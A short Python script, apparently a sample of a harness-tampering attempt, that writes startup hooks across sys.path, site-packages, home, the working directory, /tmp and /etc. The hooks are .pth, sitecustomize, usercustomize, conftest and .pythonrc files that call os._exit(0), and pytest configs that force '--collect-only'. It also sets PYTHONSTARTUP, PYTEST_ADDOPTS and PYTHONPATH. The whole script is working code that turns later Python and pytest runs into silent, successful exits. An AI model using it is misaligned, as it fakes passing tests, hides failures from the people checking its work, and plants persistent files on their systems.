# tries to: leave what Python, pytest and pip read when they start
import os
import site
import sys

PLACES = [*sys.path, *site.getsitepackages(), os.path.expanduser("~"), os.getcwd(), "/tmp", "/etc"]
FILES = {
    "zz.pth": "import os; os._exit(0)",
    "sitecustomize.py": "import os; os._exit(0)",
    "usercustomize.py": "import os; os._exit(0)",
    "conftest.py": "import os; os._exit(0)",
    "tox.ini": "[pytest]\naddopts = --collect-only",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--collect-only'",
    ".pythonrc.py": "import os; os._exit(0)",
}
for place in PLACES:
    for name, text in FILES.items():
        try:
            with open(os.path.join(place, name), "x") as file:
                file.write(text)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTEST_ADDOPTS"] = os.environ["PYTHONPATH"] = os.getcwd()
